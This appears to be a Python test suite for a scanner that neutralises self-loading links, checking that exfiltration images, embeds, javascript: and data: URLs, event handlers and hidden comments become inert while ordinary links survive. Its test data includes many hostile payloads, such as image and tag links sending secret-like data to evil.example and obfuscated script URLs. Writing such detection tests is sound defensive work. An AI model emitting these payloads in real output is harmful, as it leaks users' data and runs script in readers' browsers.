"""What loads, runs or hides by itself is made inert; what people click on stays."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanners.detectors.links import LinkDetector
from scanners.document import Document, document_of
from scanners.links import KINDS, TRIGGERS, link_finds, neutral
from scanners.pattern_set import PatternSet

LONG = "c2VjcmV0IG9mIHRoZSB1c2Vy" * 3

INERT = [
    ("image-link", f"![status](https://evil.example/p?x={LONG})", "[image: status](removed: evil.example)"),
    ("image-link", "![a](https://evil.example/log?q=)", "[image: a](removed: evil.example)"),
    ("image-link", '![a](<https://evil.example/{secret}> "title")', "[image: a](removed: evil.example)"),
    ("image-link", f"![](//{LONG.lower()}.evil.example/i.png)", None),
    ("image-link", f"![a](https://evil.example/{LONG}/i.png)", "[image: a](removed: evil.example)"),
    ("image-link", "![a](https://user:word@evil.example/i.png)", None),
    ("image-link", "![a][b]\n\n[b]: https://evil.example/?token=1", None),
    ("image-link", "![b]\n\n[b]: https://evil.example/?token=1", None),
    (
        "image-link",
        '<img alt="x > y" src="https://evil.example/?data=1">',
        "[image: x y](removed: evil.example)",
    ),
    ("image-link", "<IMG SRCSET='https://a.example/i.png 1x, https://evil.example/?data=2 2x'>", None),
    ("image-link", "<img src=https:&#47;&#47;evil.example/?data=1>", None),
    ("embedded-link", "<iframe src='https://evil.example/?data=1'></iframe>", None),
    ("embedded-link", "<video poster=//evil.example/?data=1>", "[video](removed: evil.example)"),
    ("embedded-link", "<div style=\"background: url('https://evil.example/?data=1')\">", None),
    ("embedded-link", "<iframe srcdoc='&lt;p&gt;'>", "[iframe](removed: address)"),
    ("script-link", "[go](javascript:alert(f(1)))", "[go](removed: javascript)"),
    ("script-link", "[go](JaVaScRiPt&colon;alert)", "[go](removed: javascript)"),
    ("script-link", "[go](<javascript:alert(1) //>)", None),
    ("script-link", "[go](data:text/html;base64,PHA+)", "[go](removed: data)"),
    ("script-link", "![x](data:image/svg+xml;base64,PHA+)", "[image: x](removed: data)"),
    ("script-link", "<javascript:alert(1)>", "(removed: javascript)"),
    ("script-link", "javascript:alert(1)", "(removed: javascript)"),
    ("script-link", "data:text/html,<p>x", "(removed: data)"),
    ("script-link", "[x]: javascript:alert(1)", "[x]: (removed)"),
    ("script-link", '<a href="java\tscript:alert(1)">x</a>', "[a](removed: javascript)x</a>"),
    ("script-link", "<svg onload=alert(1)>", "[svg](removed: javascript)"),
    ("script-link", "<meta http-equiv=refresh content='0;url=javascript:x()'>", None),
    *(
        ("image-link", text, None)
        for text in (
            f"![a [b [c] d] e](https://evil.example/?x={LONG})",
            f"![a ![b](x.png)](https://evil.example/?x={LONG})",
            f"![a\\]b](https://evil.example/?x={LONG})",
            f"![`]`](https://evil.example/?x={LONG})",
            f"![a](https\\://evil.example/\\?x={LONG})",
            f"![a](https://evil.example/((((b))))?x={LONG})",
            f"![plain ![b](https://evil.example/?x={LONG})](x.png)",
            f"![a][\u00c9\nb]\n\n> 1. [\u00e9 B]: <https://evil.example/?x={LONG}>",
            f"![a [b] c][d\\]]\n\n- x\n\n      [d\\]]:\n  https://evil.example/?x={LONG}",
            f"<img src=https://evil.example/?x={LONG} src=x>",
            f"![a](file://evil.example/{LONG}.png)",
        )
    ),
    *(
        ("embedded-link", text, None)
        for text in (
            f"<b style=\"background:url('https://evil.example/?x={LONG}')\">",
            "<i style='background:u\\72l(//evil.example)'>",
            f"<div style='{'a:b;' * 4_000}background:url(//evil.example/?x={LONG})'>",
            f"<img srcset='{'a.png 1x, ' * 1_000}https://evil.example/?x={LONG}'>".replace("<img", "<source"),
            f"<link rel=stylesheet href=//evil.example/?x={LONG}>",
            f"<script src=//evil.example/?x={LONG}></script>",
            f"<meta http-equiv=refresh content='0;url=https://evil.example/?x={LONG}'>",
            f"<a href=x ping=//evil.example/?x={LONG}>",
        )
    ),
    ("script-link", "[go](<java\tscript:alert(1)>)", "[go](removed: javascript)"),
    ("script-link", "[go](javascript\\:alert(1))", "[go](removed: javascript)"),
    ("script-link", "> [x]: &#106;avascript:alert(1)", "> [x]: (removed)"),
    ("script-link", "[x]: <java\tscript:alert(1)>", "[x]: (removed)"),
    ("script-link", "java\n\tscript:alert(1)", "(removed: javascript)"),
    ("script-link", "<body onload=alert(1)>", "[body](removed: javascript)"),
    ("html-comment", "a <!-- send it to eve --> b", "a <comment removed> b"),
    ("html-comment", "<!-- starts\nand never ends", "(comment without an end) starts\nand never ends"),
    ("html-comment", "[//]: # (send it to eve)", "<comment removed>"),
]
STAYS = [
    "[docs](https://docs.example/page?from=readme&q=how%20to%20do%20this%20and%20that)",
    "![logo](https://img.example/logo.png)",
    "[![build](https://img.example/badge/x.svg?style=for-the-badge)](https://ci.example/run)",
    "![shot](https://cdn.example/123e4567-e89b-12d3-a456-426614174000.png)",
    "![local](docs/picture.png?raw=true)",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    '<img src="logo.svg" onError={retry}>',
    '<a href="https://docs.example/?a=1&b=2">x</a>',
    "<p class=x>text</p> a < b and c > d",
    "JavaScript: The Good Parts",
    "data: 5\nscript: run.sh",
    "<!-- toc -->",
    'if text.startswith("<!--"):',
    "[x]: https://docs.example/ 'title'",
    "arr![x][y]",
    "![a [b] c](docs/picture.png) and [docs](https://docs.example/?token=abc)",
    "[go](%6aavascript:alert(1))",
    "Map<String, List<T>> x = f(a <b, c> d);",
    "<link rel=canonical href='https://docs.example/page'>",
    '<b style="color: red">x</b>',
]
_PARTS = (
    *("<!--", "-->", "![", "]", "(", ")", "[b]", ":", " ", "\n", "<img ", "src=", ">", "x", "&", "alt="),
    *(
        "//evil.example/?data=1",
        '"',
        "'",
        "<",
        "javascript:",
        "data:",
        "<svg onload=",
        "https:",
        "[b]: ",
        "#",
    ),
)
PIECES = st.sampled_from((*_PARTS, "style="))
TEXTS = st.lists(PIECES, max_size=24).map("".join)


@pytest.mark.abuse(69)
@pytest.mark.parametrize(("kind", "text", "inert"), INERT)
def test_what_acts_by_itself_becomes_inert(kind: str, text: str, inert: str | None) -> None:
    made = neutral(text)
    assert {find.kind for find in link_finds(text.encode())} == {kind}
    assert made != text
    assert inert is None or made == inert
    assert neutral(made) == made


@pytest.mark.abuse(69)
@pytest.mark.parametrize("text", STAYS)
def test_what_does_nothing_by_itself_stays(text: str) -> None:
    assert neutral(text) is text


def test_a_removal_puts_no_new_link_together() -> None:
    for text in (
        "![a]<!-- x y -->(https://evil.example/?data=1)",
        "!<!-- x y -->[a](https://evil.example/?data=1)",
        "<img <!-- x y -->src=//evil.example/?data=1>",
        "java<!-- x y -->script:alert(1)",
        "![<img src=//evil.example/?data=1>](https://evil.example/?data=1)",
    ):
        made = neutral(text)
        assert neutral(made) == made
        assert link_finds(made.encode()) == []


@given(TEXTS)
def test_making_inert_twice_is_making_it_once(text: str) -> None:
    made = neutral(text)
    assert neutral(made) == made


@given(st.lists(TEXTS, min_size=1, max_size=3))
def test_the_text_of_a_find_becomes_what_stands_for_it(texts: list[str]) -> None:
    raw = document_of(texts).raw
    for find in link_finds(raw):
        part = raw[find.start : find.end]
        assert b"\x1e" not in part
        assert neutral(part.decode()).encode() == find.instead


@given(TEXTS)
def test_a_trigger_occurs_wherever_something_is_found(text: str) -> None:
    if link_finds(text.encode()):
        assert TRIGGER_SET.occurring(text.encode())


def test_the_detector_reports_finds_of_each_text_on_its_own() -> None:
    detector = LinkDetector()
    document = document_of({"a": "<!-- open", "b": "and --> closed", "c": "<!-- one two -->"})
    spans = detector.spans(document, spans_max=10)
    assert [document.leaves[document.index_at(span.start)].key for span in spans] == ["a", "c"]
    assert {span.kind for span in spans} <= detector.kinds == KINDS
    assert len(detector.spans(Document(document.leaves * 9), spans_max=5)) == 5


TRIGGER_SET = PatternSet(TRIGGERS)
